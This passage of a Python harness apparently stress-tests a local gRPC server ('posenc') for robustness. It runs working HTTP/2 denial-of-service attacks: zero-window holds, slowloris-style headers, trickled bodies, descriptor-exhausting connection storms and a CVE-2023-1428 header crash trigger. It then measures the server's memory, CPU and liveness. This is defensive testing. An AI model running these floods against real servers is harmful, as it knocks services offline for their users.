    while ctx.running():
        for _ in range(20000):
            pass
        spins += 1
    st["sent"]["busy loops of 20,000 (no traffic)"] += spins


def zero_window_hold(ctx, st):
    method = ctx.opts.get("zw_method", "GetTable")
    spec = table_spec(512, 8192)
    req = get_table_request(spec) if method == "GetTable" else \
        stream_batches_request(spec)
    block = stateless_block(request_headers(method, ctx.authority))
    body = grpc_message(req)
    note(st, f"{method} d=512 max_len=8192 float32 (16 MiB) per stream")
    conns = []
    settings = {SETTING.ENABLE_PUSH: 0,
                SETTING.INITIAL_WINDOW_SIZE: 0}
    for _ in range(ctx.conns):
        if not ctx.running():
            break
        c = Conn.open(ctx, st, ack="never", replenish=False, settings=settings)
        if c is None:
            continue
        conns.append(c)
        for _ in range(100):
            sid = c.next_sid
            c.next_sid += 2
            c.queue(frame(HEADERS, END_HEADERS, sid, block)
                    + frame(DATA, END_STREAM, sid, body))
            st["sent"]["streams"] += 1
        c.flush()
    # Everything out (small), then hold without reading.
    while ctx.running() and any(c.out and not c.closed for c in conns):
        for c in conns:
            c.flush()
        time.sleep(0.01)
    while ctx.running():
        for c in conns:
            c.peek_closed()
        if all(c.closed for c in conns):
            break
        time.sleep(min(0.2, max(0.0, ctx.left())))
    end = time.monotonic() + 1.0
    for c in conns:
        c.drain(2 * MiB, max(0.0, end - time.monotonic()))
        c.close()


def open_many(ctx, st, count, until, send_preface=True):
    """Opens up to `count` connections (non-blocking connects, at most 256
    pending) before monotonic time `until`; returns the open Conns."""
    conns, pending = [], {}
    poller = select.poll()
    attempted = 0
    hello = PREFACE + settings_frame({SETTING.ENABLE_PUSH: 0})
    stop = None
    while time.monotonic() < min(until, ctx.end()):
        while (stop is None and attempted < count and len(pending) < 256):
            try:
                s = socket.socket(ctx.family, socket.SOCK_STREAM)
            except OSError as e:
                stop = f"attacker: {connect_error(e)}"
                break
            s.setblocking(False)
            attempted += 1
            err = s.connect_ex((ctx.host, ctx.port))
            if err not in (0, 115):  # EINPROGRESS
                st["connect_failed"][connect_error(OSError(err, ""))] += 1
                s.close()
                if err == 99:
                    stop = "attacker: out of local ports"
                continue
            pending[s.fileno()] = (s, time.monotonic())
            poller.register(s.fileno(), select.POLLOUT)
        if not pending:
            if stop or attempted >= count:
                break
            continue
        for fd, _ in poller.poll(10):
            s, _ = pending.pop(fd)
            poller.unregister(fd)
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                st["connect_failed"][connect_error(OSError(err, ""))] += 1
                s.close()
                continue
            st["sent"]["connections"] += 1
            c = Conn(s, st, ack="never", replenish=False)
            if send_preface:
                c.queue(hello)
                c.flush()
            conns.append(c)
        now = time.monotonic()
        for fd, (s, t0) in list(pending.items()):
            if now - t0 > 2.0:
                pending.pop(fd)
                poller.unregister(fd)
                st["connect_failed"]["timeout (2 s)"] += 1
                s.close()
    for s, _ in pending.values():
        st["connect_failed"]["still connecting at the end"] += 1
        s.close()
    if stop:
        note(st, stop)
    return conns


def hold(ctx, conns, every=0.5):
    while ctx.running():
        for c in conns:
            c.peek_closed()
        time.sleep(min(every, max(0.0, ctx.left())))


def idle_connections(ctx, st):
    raise_nofile()
    conns = open_many(ctx, st, ctx.conns, ctx.end())
    note(st, f"{len(conns)} connections open")
    hold(ctx, conns)
    end = time.monotonic() + 1.0
    for c in conns:
        c.peek_closed()
        c.drain(64 * 1024, max(0.0, min(0.01, end - time.monotonic())))
        c.close()


def slow_headers(ctx, st):
    base = request_headers("GetRows", ctx.authority)
    junk = [(f"x-slow-{i}", "s" * 40) for i in range(4)]
    block = stateless_block(base + junk)
    body = frame(DATA, END_STREAM, 1, grpc_message(get_rows_request(
        table_spec(128, 4096), [3])))
    step = 3
    interval = 0.05
    conns = []
    for _ in range(ctx.conns):
        if not ctx.running():
            break
        c = Conn.open(ctx, st, ack="held")
        if c is not None:
            c.offset = 0
            conns.append(c)
    note(st, f"{len(conns)} connections, {len(block)}-byte header blocks, "
             f"{step} bytes per frame every {interval * 1000:g} ms")
    while ctx.running():
        t0 = time.monotonic()
        for i, c in enumerate(conns):
            if c.closed:
                c = ctx.reopen(st, c, ack="held")
                if c is None:
                    continue
                c.offset = 0
                conns[i] = c
            c.pump()
            sid = c.next_sid
            part = block[c.offset:c.offset + step]
            last = c.offset + step >= len(block)
            flags = END_HEADERS if last else 0
            if c.offset == 0:
                c.queue(frame(HEADERS, flags, sid, part))
                st["sent"]["streams"] += 1
            else:
                c.queue(frame(CONTINUATION, flags, sid, part))
            c.offset += step
            if last:
                c.queue(retarget(body, sid))
                c.release_control()
                c.next_sid += 2
                c.offset = 0
                st["sent"]["header blocks completed"] += 1
            c.flush()
        time.sleep(max(0.0, min(interval - (time.monotonic() - t0),
                                ctx.left())))
    for c in conns:
        c.pump()
        c.close()


def trickled_body(ctx, st):
    block = stateless_block(request_headers("GetRows", ctx.authority))
    body = grpc_message(get_rows_request(table_spec(128, 4096), [5],
                                         pad=64 * 1024))
    interval = 0.05
    conns = []
    for _ in range(ctx.conns):
        if not ctx.running():
            break
        c = Conn.open(ctx, st)
        if c is not None:
            conns.append(c)
    for c in conns:
        wait_settings(ctx, c, 1.0)
    per_conn = 50
    for c in conns:
        limit = c.peer_settings.get(
            SETTING.MAX_CONCURRENT_STREAMS, per_conn)
        c.streams = {}
        for _ in range(min(per_conn, limit)):
            sid = c.next_sid
            c.next_sid += 2
            c.queue(frame(HEADERS, END_HEADERS, sid, block))
            c.streams[sid] = 0
            st["sent"]["streams"] += 1
        c.flush()
    note(st, f"{sum(len(c.streams) for c in conns)} streams, "
             f"{len(body)}-byte bodies, 1 byte per DATA frame every "
             f"{interval * 1000:g} ms per stream")
    while ctx.running():
        t0 = time.monotonic()
        for c in conns:
            if c.closed:
                continue
            c.pump()
            for sid in list(c.streams):
                if sid in c.ended:
                    del c.streams[sid]
                    continue
                if c.send_window < 1:
                    st["sent"]["bytes held back (no window)"] += 1
                    continue
                at = c.streams[sid]
                c.queue(frame(DATA, END_STREAM if at + 1 == len(body) else 0,
                              sid, body[at:at + 1]))
                c.send_window -= 1
                c.streams[sid] = at + 1
                st["sent"]["DATA frames of 1 byte"] += 1
            c.flush()
        if all(c.closed for c in conns):
            break
        time.sleep(max(0.0, min(interval - (time.monotonic() - t0),
                                ctx.left())))
    for c in conns:
        c.pump()
        c.close()


def server_fds(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


def connection_storm(ctx, st):
    """With the server's pid: connections until the server holds all the
    descriptors it may, then STORM_BEYOND more (they wait in its backlog, and
    accepting them fails with EMFILE). Without: --conns connections."""
    limit = raise_nofile()
    count = min(ctx.conns, max(16, limit - 64))
    t0 = time.monotonic()
    until = t0 + 0.6 * ctx.left()
    pid = ctx.opts.get("server_pid")
    server_limit = fd_limit(pid) if pid else None
    conns = []
    if server_limit:
        full = False
        while time.monotonic() < until and len(conns) < count:
            conns += open_many(ctx, st, min(32, count - len(conns)), until)
            fds = server_fds(pid)
            if fds is None or fds >= server_limit:
                full = fds is not None
                break
        at_limit = len(conns)
        conns += open_many(ctx, st, STORM_BEYOND, until)
        note(st, f"server at its descriptor limit ({server_limit}) after "
                 f"{at_limit} connections, then {len(conns) - at_limit} more"
                 if full else f"server not at its descriptor limit "
                 f"({server_fds(pid)} of {server_limit}) after "
                 f"{len(conns)} connections")
    else:
        conns = open_many(ctx, st, count, until)
    note(st, f"{len(conns)} connections open after "
             f"{time.monotonic() - t0:.2f} s; held to the end, then closed")
    hold(ctx, conns, 0.25)
    for c in conns:
        c.peek_closed()
        c.close()


def invalid_headers_past_limit(ctx, st):
    """CVE-2023-1428: a header gRPC parses into an invalid value (te other
    than trailers, :scheme other than http/https, grpclb_client_stats), then
    headers that take the block past the metadata limit (12 x 1 KB); gRPC
    before 1.53 could abort() here. Streams on --conns connections, each
    variant in turn; a connection the server closes is opened again."""
    base = request_headers("GetRows", ctx.authority)
    big = [("x-posenc-pad-%d" % i, "v" * 1000) for i in range(12)]
    variants = [
        [h for h in base if h[0] != "te"] + [("te", "x")],
        [(n, "x" if n == ":scheme" else v) for n, v in base],
        base + [("grpclb_client_stats", "x")],
    ]
    blocks = [frame(HEADERS, END_HEADERS | END_STREAM, 1,
                    stateless_block(v + big)) for v in variants]
    conns = [None] * ctx.conns
    streams = 0
    while ctx.running() and streams < MAX_STREAMS_PER_ATTACK:
        busy = True
        for c in live_conns(ctx, st, conns):
            if not c.sending_blocked and c.next_sid < (1 << 31) - 8:
                sid = c.next_sid
                c.next_sid += 2
                c.queue(retarget(blocks[streams % len(blocks)], sid))
                streams += 1
                # Its main count is connections: the server closes each
                # after its first such requests, so their cost (and gRPC's
                # log line) is per connection.
                ctx.count = ctx.reconnects
                busy = False
            c.flush()
        idle_wait(conns, busy)
    st["sent"]["streams with an invalid header past the limit"] += streams
    close_all(conns)


ATTACK_FUNCS = {
    "cpu_burn": cpu_burn,
    "rapid_reset_cold": lambda ctx, st: rapid_reset(ctx, st, cold=True),
    "rapid_reset_hot": lambda ctx, st: rapid_reset(ctx, st, cold=False),
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "ping_settings_flood": ping_settings_flood,
    "ping_settings_acked": ping_settings_acked,
    "zero_window_hold": zero_window_hold,
    "idle_connections": idle_connections,
    "slow_headers": slow_headers,
    "trickled_body": trickled_body,
    "connection_storm": connection_storm,
    "invalid_headers_past_limit": invalid_headers_past_limit,
}


def attack_child(name, target, seconds, conns, opts, pipe):
    """Runs in a child process; sends its stats through `pipe`."""
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    st = new_stats()
    try:
        family, host, port, authority = check_target(target)
        ctx = Ctx(family, host, port, authority, seconds, conns, opts)
        # SIGUSR1: stop now (the parent's --abort-rss-bytes), with the stats.
        signal.signal(signal.SIGUSR1, lambda *_: ctx.stop())
        ATTACK_FUNCS[name](ctx, st)
    except Exception as e:  # noqa: BLE001 (reported, not hidden)
        note(st, f"attacker error: {type(e).__name__}: {e}")
    pipe.send(st)
    pipe.close()


def merge_stats(parts):
    total = new_stats()
    for st in parts:
        for key, value in st.items():
            if key == "notes":
                for n in value:
                    note(total, n)
            else:
                total[key].update(value)
    return total


# ----------------------------------------------------------------------------
# The well-behaved side: one gRPC call over h2, the probe, the sampler.

def grpc_call(target, method, body, timeout, max_bytes=64 * MiB):
    """One unary call on a new connection. Returns (grpc-status or None,
    message bytes or None, error text or None)."""
    family, host, port, authority = check_target(target)
    deadline = time.monotonic() + timeout
    try:
        sock = socket.create_connection((host, port), timeout=timeout)
    except OSError as e:
        return None, None, f"connect: {connect_error(e)}"
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        conn.update_settings({SETTING.INITIAL_WINDOW_SIZE: 1 << 24})
        conn.increment_flow_control_window(1 << 24)
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_headers(method, authority))
        conn.send_data(sid, grpc_message(body), end_stream=True)
        sock.sendall(conn.data_to_send())
        data = bytearray()
        status = None
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return status, None, "no answer within the timeout"
            sock.settimeout(left)
            try:
                chunk = sock.recv(1 << 20)
            except socket.timeout:
                return status, None, "no answer within the timeout"
            if not chunk:
                return status, None, "connection closed"
            for event in conn.receive_data(chunk):
                if isinstance(event, h2.events.DataReceived):
                    data += event.data
                    conn.acknowledge_received_data(
                        event.flow_controlled_length, event.stream_id)
                    if len(data) > max_bytes:
                        return None, None, "answer too large"
                elif isinstance(event, (h2.events.ResponseReceived,
                                        h2.events.TrailersReceived)):
                    for n, v in event.headers:
                        if n == "grpc-status":
                            status = int(v)
                elif isinstance(event, h2.events.StreamReset):
                    return (status, None,
                            f"RST_STREAM {error_name(event.error_code)}")
                elif isinstance(event, h2.events.ConnectionTerminated):
                    return (status, None,
                            f"GOAWAY {error_name(event.error_code)}")
                elif isinstance(event, h2.events.StreamEnded):
                    if status != 0:
                        return status, None, f"grpc-status {status}"
                    if len(data) < 5:
                        return status, None, "no message"
                    n = int.from_bytes(data[1:5], "big")
                    return status, bytes(data[5:5 + n]), None
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
    except (OSError, h2.exceptions.ProtocolError) as e:
        return None, None, f"{type(e).__name__}: {e}"
    finally:
        sock.close()


def expected_probe_row():
    f1 = PROBE_POSITION * 10000.0 ** (-2 / PROBE_D)
    values = [math.sin(PROBE_POSITION), math.cos(PROBE_POSITION),
              math.sin(f1), math.cos(f1)]
    return struct.pack("<4f", *values)


def probe(target, timeout=2.0):
    """(True, None) if a fresh connection gets the exact GetRows answer."""
    req = get_rows_request(table_spec(PROBE_D, PROBE_MAX_LEN),
                           [PROBE_POSITION])
    status, msg, err = grpc_call(target, "GetRows", req, timeout)
    if err:
        return False, err
    try:
        rows = dict((f, v) for f, _, v in pb_fields(msg)).get(1, b"")
        tensor = {f: v for f, _, v in pb_fields(rows)}
    except ValueError as e:
        return False, f"bad answer: {e}"
    if tensor.get(3) != expected_probe_row():
        return False, "wrong bytes in the answer"
    return True, None


def probe_until(target, seconds, pid_alive):
    """Probes until an exact answer or `seconds` pass; (ok, after, error)."""
    t0 = time.monotonic()
    err = None
    while True:
        if not pid_alive():
            return False, None, "process gone"
        ok, err = probe(target, min(2.0, max(0.2, seconds)))
        if ok:
            return True, time.monotonic() - t0, None
        if time.monotonic() - t0 >= seconds:
            return False, None, err
        time.sleep(0.2)


class Sampler(threading.Thread):
    """posenc's VmRSS, VmHWM, CPU and descriptors every 50 ms."""

    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.stop_event = threading.Event()
        self.rss_peak = self.hwm = self.fds_peak = 0
        self.rss_first = None
        self.cpu0 = cpu_seconds(pid)
        self.cpu = self.cpu0
        self.fd_limit = fd_limit(pid)
        self.hwm_reset = reset_hwm(pid)
        self.over = threading.Event()
        self.abort_rss = None
        self.sample()

    def sample(self):
        rss, hwm = rss_hwm(self.pid)
        if rss is None:
            return False
        if self.rss_first is None:
            self.rss_first = rss
        self.rss_peak = max(self.rss_peak, rss)
        self.hwm = max(self.hwm, hwm)
        cpu = cpu_seconds(self.pid)
        if cpu is not None:
            self.cpu = cpu
        try:
            fds = len(os.listdir(f"/proc/{self.pid}/fd"))
            self.fds_peak = max(self.fds_peak, fds)
        except OSError:
            pass
        if self.abort_rss and max(rss, hwm) > self.abort_rss:
            self.over.set()
        return True

    def run(self):
        while not self.stop_event.wait(0.05):
            if not self.sample():
                break

    def stop(self):
        self.stop_event.set()
        self.join(timeout=2)
        self.sample()

    @property
    def peak(self):
        return max(self.rss_peak, self.hwm)


def rss_hwm(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            text = f.read()
    except OSError:
        return None, None
    rss = re.search(r"VmRSS:\s+(\d+) kB", text)
    hwm = re.search(r"VmHWM:\s+(\d+) kB", text)
    if not rss:
        return None, None
    return int(rss.group(1)) * 1024, int(hwm.group(1)) * 1024 if hwm else 0


def cpu_seconds(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rpartition(")")[2].split()
    except OSError:
        return None
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def fd_limit(pid):
    try:
        with open(f"/proc/{pid}/limits") as f:
            m = re.search(r"Max open files\s+(\d+)", f.read())
        return int(m.group(1)) if m else None
    except OSError:
        return None


def reset_hwm(pid):
    try:
        with open(f"/proc/{pid}/clear_refs", "w") as f:
            f.write("5")
        return True
    except OSError:
        return False


def pid_exists(pid):
    if pid is None:
        return True
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rpartition(")")[2].split()[0] not in ("Z", "X")
    except OSError:
        return False


# ----------------------------------------------------------------------------
# Victim and server processes.

def die_with_parent(nofile=None):
    def preexec():
        libc = ctypes.CDLL("libc.so.6", use_errno=True)
        libc.prctl(1, signal.SIGTERM)  # PR_SET_PDEATHSIG
        if nofile:
            try:
                resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))
            except (ValueError, OSError):  # above the hard limit, unprivileged
                hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
                resource.setrlimit(resource.RLIMIT_NOFILE,
                                   (min(nofile, hard),) * 2)
    return preexec


class Victim:
    """bench/client_load --seconds: 1-row GetRows, one call at a time."""

    def __init__(self, binary, target, seconds):
        self.seconds = seconds
        self.lines = []
        self.warm = threading.Event()
        self.proc = subprocess.Popen(
            [binary, f"--target={target}", "--method=GetRows", "--threads=1",
             f"--d={VICTIM_D}", f"--max_len={VICTIM_MAX_LEN}",
             f"--seconds={seconds}", "--timeout_seconds=2",
             "--calls=10000000"],
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL, text=True,
            preexec_fn=die_with_parent())
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def read(self):
        for line in self.proc.stdout:
            self.lines.append(line.rstrip())
            if line.strip() == "warm":
                self.warm.set()

    def wait_warm(self, seconds=10):
        end = time.monotonic() + seconds
        while time.monotonic() < end and self.proc.poll() is None:
            if self.warm.wait(0.05):
                return True
        return self.warm.is_set()

    def result(self):
        """(successful calls per second or None, failed calls, detail)."""
        try:
            self.proc.wait(timeout=self.seconds + 10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.reader.join(timeout=2)
        for line in self.lines:
            m = re.match(r"calls (\d+) failed (\d+) seconds ([\d.]+) "
                         r"calls_per_second ([\d.]+)", line)
            if m:
                return float(m.group(4)), int(m.group(2)), None
        return None, None, " / ".join(self.lines[-2:]) or "no output"


class Server:
    """posenc_server on 127.0.0.1:0, as tests/common/server_process.py."""

    def __init__(self, binary, flags, nofile, log_dir, name):
        self.log_path = os.path.join(log_dir, f"{name}.server.log")
        self.log = open(self.log_path, "wb")
        self.started = time.monotonic()
        self.lifetime = None
        self.proc = subprocess.Popen(
            [binary, "--listen=127.0.0.1:0", "--lame_duck_seconds=0",
             "--grace_seconds=1", *flags],
            stdout=self.log, stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL, preexec_fn=die_with_parent(nofile))
        self.pid = self.proc.pid
        deadline = time.monotonic() + 20
        self.port = None
        while time.monotonic() < deadline and self.proc.poll() is None:
            with open(self.log_path, "rb") as f:
                m = re.search(rb"listening on \S+ \(port (\d+)\)",
                              f.read(1 << 16))
            if m:
                self.port = int(m.group(1))
                break
            time.sleep(0.05)
        if self.port is None:
            self.stop()
            raise RuntimeError("server did not start:\n" + self.tail())

    def alive(self):
        return self.proc.poll() is None

    def exit_text(self):
        rc = self.proc.poll()
        if rc is None:
            return None
        if rc < 0:
            return f"killed by {signal.Signals(-rc).name}"
        return f"exited {rc}"

    def tail(self, n=3000):
        with open(self.log_path, "rb") as f:
            f.seek(0, os.SEEK_END)
            size = f.tell()
            f.seek(max(0, size - n))
            return f.read().decode(errors="replace")

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=3)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=3)
        self.log.close()
        if self.lifetime is None:
            self.lifetime = time.monotonic() - self.started

    def log_lines(self):
        """(all lines, lines of gRPC's own) in the server's log."""
        lines = grpc_lines = 0
        with open(self.log_path, "rb") as f:
            for line in f:
                lines += 1
                grpc_lines += bool(GRPC_LOG_LINE.search(line))
        return lines, grpc_lines


# ----------------------------------------------------------------------------
# One attack, measured.

def run_attack(name, args, target, pid, exit_text=lambda: None):
    r = {"attack": name, "seconds": args.seconds, "target": target}
    conns = args.conns or DEFAULT_CONNS[name]
    if name == "cpu_burn":
        conns = args.procs  # one busy process per attacker process
    r["connections"] = conns
    pid_alive = lambda: pid_exists(pid)  # noqa: E731
    ok, err = probe(target, 5.0)
    if not ok:
        r["skipped"] = f"target did not answer before the attack: {err}"
        r["alive"] = {"process": pid_alive() if pid else None,
                      "answers": False, "error": err}
        return r
    opts = {"rr_cold_request": args.rr_cold_request,
            "max_seconds": args.max_seconds or 0, "server_pid": pid}
    if name.startswith("rapid_reset") and args.min_streams:
        opts["min_count"] = -(-args.min_streams // args.procs)
    if name == "invalid_headers_past_limit" and args.min_connections:
        opts["min_count"] = -(-args.min_connections // args.procs)
    if name == "continuation_flood" and args.min_bytes:
        opts["min_count"] = -(-args.min_bytes // args.procs)
    if name == "zero_window_hold":
        status, _, err = grpc_call(target, "GetTable", get_table_request(
            table_spec(512, 8192)), 30, max_bytes=32 * MiB)
        opts["zw_method"] = "GetTable" if status == 0 else "StreamBatches"
        if status != 0:
            r["zero_window_method_note"] = (
                f"GetTable of 16 MiB refused ({err})")

    victim = {}
    if args.victim_binary:
        cpu_a = cpu_seconds(pid) if pid else None
        v = Victim(args.victim_binary, target, args.seconds)
        rate, failed, err = v.result()
        cpu_b = cpu_seconds(pid) if pid else None
        victim["alone_calls_per_s"] = rate
        victim["alone_error"] = err
        if cpu_a is not None and cpu_b is not None:
            r["server_cpu_alone_s"] = round(cpu_b - cpu_a, 2)

    during = None
    if args.victim_binary:
        during = Victim(args.victim_binary, target, args.seconds)
        if not during.wait_warm(10):
            victim["during_error"] = "victim did not start: " + " / ".join(
                during.lines[-2:])
    procs, pipes = [], []
    children_cpu0 = children_cpu_seconds()
    per = -(-conns // args.procs)
    for i in range(args.procs):
        n = min(per, conns - i * per)
        if n <= 0:
            break
        recv, send = multiprocessing.Pipe(duplex=False)
        p = multiprocessing.Process(
            target=attack_child,
            args=(name, target, args.seconds, n, opts, send),
            daemon=True)
        p.start()
        send.close()
        procs.append(p)
        pipes.append(recv)
    sampler = None
    if pid:
        sampler = Sampler(pid)
        sampler.abort_rss = args.abort_rss_bytes
        sampler.start()
    t0 = time.monotonic()
    parts, aborted = [], None
    end = t0 + max(args.seconds, args.max_seconds or 0) + 15
    pending = list(zip(procs, pipes))
    while pending and time.monotonic() < end:
        if sampler is not None and sampler.over.is_set() and not aborted:
            aborted = (f"stopped after {time.monotonic() - t0:.1f} s: "
                       "posenc's RSS passed --abort-rss-bytes "
                       f"{fmt_bytes(args.abort_rss_bytes)}")
            for p, _ in pending:
                if p.is_alive():
                    os.kill(p.pid, signal.SIGUSR1)
            end = min(end, time.monotonic() + 5)
        for p, pipe in list(pending):
            if pipe.poll(0.02):
                try:
                    parts.append(pipe.recv())
                except EOFError:
                    pass
                pending.remove((p, pipe))
            elif not p.is_alive() and not pipe.poll(0):
                pending.remove((p, pipe))
    for p, _ in pending:
        p.kill()
        parts.append({"notes": ["attacker process overran its time; killed"]})
    for p in procs:
        p.join(timeout=5)
    attack_seconds = time.monotonic() - t0
    # The attacker processes are reaped; the victim during the attack not yet.
    r["attacker_cpu_s"] = round(children_cpu_seconds() - children_cpu0, 2)
    st = merge_stats(parts)
    if aborted:
        note(st, aborted)
        r["aborted"] = aborted
    if during is not None:
        rate, failed, err = during.result()
        victim["during_calls_per_s"] = rate
        victim["during_failed_calls"] = failed
        if err and "during_error" not in victim:
            victim["during_error"] = err
        if rate is None:
            victim["during_calls_per_s"] = 0.0
        if victim.get("alone_calls_per_s"):
            victim["ratio"] = round(victim["during_calls_per_s"]
                                    / victim["alone_calls_per_s"], 3)
    r["victim"] = victim
    if sampler is not None:
        sampler.stop()
        r["server"] = {
            "rss_before_bytes": sampler.rss_first,
            "rss_peak_sampled_bytes": sampler.rss_peak,
            "vm_hwm_bytes": sampler.hwm,
            "vm_hwm_reset_before": sampler.hwm_reset,
            "peak_rss_bytes": sampler.peak,
            "cpu_attack_s": round(sampler.cpu - sampler.cpu0, 2)
            if sampler.cpu is not None and sampler.cpu0 is not None else None,
            "fds_peak": sampler.fds_peak, "fd_limit": sampler.fd_limit}
    r["attack_wall_s"] = round(attack_seconds, 2)
    ok, after, err = probe_until(target, args.recover_seconds, pid_alive)
    r["alive"] = {"process": (pid_alive() if pid else None), "answers": ok,
                  "answer_after_s": (round(after, 2) if after is not None
                                     else None),
                  "error": err, "exit": exit_text()}
    r["answered"] = summarize(st)
    r["attacker"] = {k: dict(v) if isinstance(v, collections.Counter) else v
                     for k, v in st.items()}
    return r


def children_cpu_seconds():
    ru = resource.getrusage(resource.RUSAGE_CHILDREN)
    return ru.ru_utime + ru.ru_stime


def summarize(st):
    parts = []
    for code, n in st["goaway"].most_common():
        parts.append(f"GOAWAY {code} x{n}")
    for code, n in st["rst"].most_common(3):
        parts.append(f"RST_STREAM {code} x{n}")
    for code, n in st["grpc_status"].most_common(3):
        parts.append(f"grpc-status {code} x{n}")
    for what in ("PING ACK", "SETTINGS ACK"):
        if st["got"].get(what):
            parts.append(f"{what} x{st['got'][what]}")
    if st["got"].get("DATA bytes"):
        parts.append(f"DATA {fmt_bytes(st['got']['DATA bytes'])}")
    for why, n in st["closed"].most_common():
        parts.append(f"closed ({why}) x{n}")
    for why, n in st["connect_failed"].most_common(3):
        parts.append(f"connect {why} x{n}")
    return ", ".join(parts) or "nothing"


def fmt_bytes(n):
    if n is None:
        return "n/a"
    if n >= GiB:
        return f"{n / GiB:.1f} GiB"
    if n < MiB:
        return f"{n / 1024:.0f} KiB"
    return f"{n / MiB:.0f} MiB"


def max_log_lines(server_seconds):
    """Most lines a server started here may log in `server_seconds`: its
    start-up and shutdown lines, plus, each second, the failed-call limit
    and gRPC's own limit (--failure_log_lines_per_second, 20 by default,
    each) and their two summary lines. An attack that buys a log line per
    request or per connection writes thousands."""
    return 40 + int((2 * 20 + 2) * (server_seconds + 1))


# A line gRPC wrote: its own format ("E1202 18:17:45.655015542 17346
# file.cc:1218] ...") or posenc's for gRPC's lines ("... GRPC-ERROR ...").
GRPC_LOG_LINE = re.compile(rb"^[DIWE]\d{4} \d\d:\d\d:\d\d\.| GRPC-[A-Z]+ ")


def max_grpc_log_lines(server_seconds):
    """Most lines of gRPC's own a server started here may log: its limit
    (20 a second by default) each second, and a few at start-up."""
    return 10 + int(20 * (server_seconds + 1))


def verdicts(r, bound, min_ratio=None):
    """Failed checks of one result (the victim's ratio only if `min_ratio`
    is given)."""
    bad = []
    if r.get("skipped"):
        bad.append(r["skipped"])
        return bad
    alive = r["alive"]
    if alive["process"] is False:
        bad.append("server process gone" + (
            f" ({alive['exit']})" if alive.get("exit") else ""))
    elif not alive["answers"]:
        bad.append(f"server did not answer a fresh GetRows: {alive['error']}")
    server = r.get("server")
    if bound and server and server["peak_rss_bytes"] > bound:
        bad.append(f"peak RSS {fmt_bytes(server['peak_rss_bytes'])} > bound "
                   f"{fmt_bytes(bound)}")
    log = r.get("server_log")
    if log and log["lines"] > max_log_lines(log["server_seconds"]):
        bad.append(f"server wrote {log['lines']} log lines in "
                   f"{log['server_seconds']} s (at most "
                   f"{max_log_lines(log['server_seconds'])}): an attack "
                   "bought log lines")
    if log and log["grpc_lines"] > max_grpc_log_lines(log["server_seconds"]):
        bad.append(f"gRPC wrote {log['grpc_lines']} log lines in "
                   f"{log['server_seconds']} s (at most "
                   f"{max_grpc_log_lines(log['server_seconds'])})")
    ratio = r.get("victim", {}).get("ratio")
    if r["attack"] == "cpu_burn":
        min_ratio = None  # the floor itself, not an attack
    if min_ratio is not None and (ratio is None or ratio < min_ratio):
        bad.append(f"victim ratio {ratio} < {min_ratio}")
    return bad


def print_table(results, bound):
    head = ["attack", "victim alone->during calls/s (ratio)",
            "posenc RSS before->peak", "CPU s: posenc alone/attack", "alive",
            "answered the attacker"]
    rows = []
    floor = next((r["victim"].get("ratio") for r in results
                  if r["attack"] == "cpu_burn" and r.get("victim")), None)
    for r in results:
        v = r.get("victim", {})
        if v.get("alone_calls_per_s") is not None:
            victim = (f"{v['alone_calls_per_s']:.0f}->"
                      f"{v.get('during_calls_per_s', 0):.0f} "
                      f"({v.get('ratio', 0):.2f}")
            if floor and r["attack"] != "cpu_burn":
                r["victim"]["ratio_of_floor"] = round(
                    v.get("ratio", 0) / floor, 2)
                victim += f", {r['victim']['ratio_of_floor']:.2f} of floor"
            victim += ")"
        else:
            victim = "n/a" if not v else f"error: {v.get('alone_error')}"[:40]
        s = r.get("server")
        rss = (f"{fmt_bytes(s['rss_before_bytes'])}->"
               f"{fmt_bytes(s['peak_rss_bytes'] or None)}") if s else "n/a"
        cpu = (f"{r.get('server_cpu_alone_s', 'n/a')}/"
               f"{s['cpu_attack_s']}") if s else "n/a"
        cpu += f"; attacker {r.get('attacker_cpu_s', 'n/a')}"
        if r.get("skipped"):
            alive = "skipped"
        else:
            a = r["alive"]
            if a["process"] is False:
                alive = "DEAD" + (f" ({a['exit']})" if a.get("exit") else "")
            elif a["answers"]:
                alive = f"yes ({a['answer_after_s']:.1f} s)"
            else:
                alive = f"NO ANSWER ({a['error']})"
        answered = r.get("answered", r.get("skipped", ""))
        if r.get("aborted"):
            answered += "; " + r["aborted"]
        rows.append([r["attack"], victim, rss, cpu, alive, answered])
    widths = [max(len(str(x[i])) for x in rows + [head]) for i in range(5)]
    line = lambda row: " | ".join(  # noqa: E731
        [str(c).ljust(w) for c, w in zip(row[:5], widths)] + [row[5]])
    print(line(head))
    print("-+-".join("-" * w for w in widths) + "-+-" + "-" * 21)
    for row in rows:
        print(line(row))
    if bound:
        print(f"RSS bound checked: {fmt_bytes(bound)}")


# ----------------------------------------------------------------------------

def flag_value(flags, name, default):
    for f in flags:
        m = re.fullmatch(rf"--{name}=(\d+)", f)
        if m:
            default = int(m.group(1))
    return default


def main():
    ap = argparse.ArgumentParser(
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter)
    where = ap.add_mutually_exclusive_group(required=True)
    where.add_argument("--target", help="127.0.0.1:PORT or [::1]:PORT")
    where.add_argument("--server-binary",
                       help="start posenc_server per attack")
    ap.add_argument("--server-pid", type=int, help="posenc process to watch")
    ap.add_argument("--server-arg", action="append", default=[],
